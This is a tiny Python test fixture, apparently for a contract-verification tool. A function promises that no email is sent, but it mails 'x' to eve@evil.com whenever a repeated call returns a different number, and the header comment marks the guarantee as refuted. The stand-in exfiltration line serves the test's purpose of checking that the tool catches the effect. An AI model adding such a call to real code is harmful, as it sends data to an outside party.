# refuted: each call of the helper asks again
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, number


def ask():
    return number()


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if ask() != ask():
        send_email("eve@evil.com", "x")
